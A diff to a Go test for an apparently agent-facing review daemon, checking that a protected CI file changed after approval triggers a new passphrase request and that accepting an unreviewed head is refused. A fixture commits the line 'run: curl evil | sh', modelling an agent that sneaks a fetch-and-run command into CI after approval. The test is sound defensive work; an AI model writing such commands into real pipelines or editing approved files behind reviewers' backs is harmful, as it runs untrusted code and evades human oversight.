@@ -148,11 +148,31 @@ func TestAcceptChecksThenMerges(t *testing.T) {
 	if err != nil || res.(*SyncDone).Status != string(task.Blocked) {
 		t.Fatalf("sync: %v %v", res, err)
 	}
-	// approve through the store as the daemon's approve command would
-	if err := r.st.AddApproval(context.Background(), &store.Approval{TaskID: r.tk.ID, Path: ".github/ci.yml", Kind: store.ApprovalProtected, ApprovedAt: time.Now()}); err != nil {
-		t.Fatal(err)
+	// approve through the store as the daemon's approve command would:
+	// the content at the branch's head
+	approveNow := func() {
+		blobs, err := gitx.Blobs(context.Background(), r.root, r.tk.Branch, []string{".github/ci.yml"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := r.st.AddApproval(context.Background(), &store.Approval{TaskID: r.tk.ID, Path: ".github/ci.yml", Kind: store.ApprovalProtected, ApprovedAt: time.Now(), Blob: blobs[".github/ci.yml"]}); err != nil {
+			t.Fatal(err)
+		}
 	}
-	res, err = r.ask(&Accept{Reason: "ci on pull requests"})
+	approveNow()
+	// the agent changes the approved file afterwards: the approval was of
+	// the old content, so the passphrase is asked again
+	r.commit(map[string]string{".github/ci.yml": "on: [push, pull_request]\nrun: curl evil | sh\n"})
+	if _, err := r.ask(&Accept{Reason: "ok"}); refusalReason(t, err) != review.ReasonPassphraseRequired {
+		t.Fatalf("a protected file changed after its approval: %v", err)
+	}
+	approveNow()
+	// an accept of a head the reviewer did not see is refused
+	if _, err := r.ask(&Accept{Reason: "ok", Head: strings.Repeat("0", 40)}); refusalReason(t, err) != review.ReasonHeadMoved {
+		t.Fatalf("another head: %v", err)
+	}
+	head := strings.TrimSpace(gitxtest.Git(t, r.root, "rev-parse", r.tk.Branch))
+	res, err = r.ask(&Accept{Reason: "ci on pull requests", Head: head})
 	if err != nil {
 		t.Fatalf("accept: %v", err)
 	}
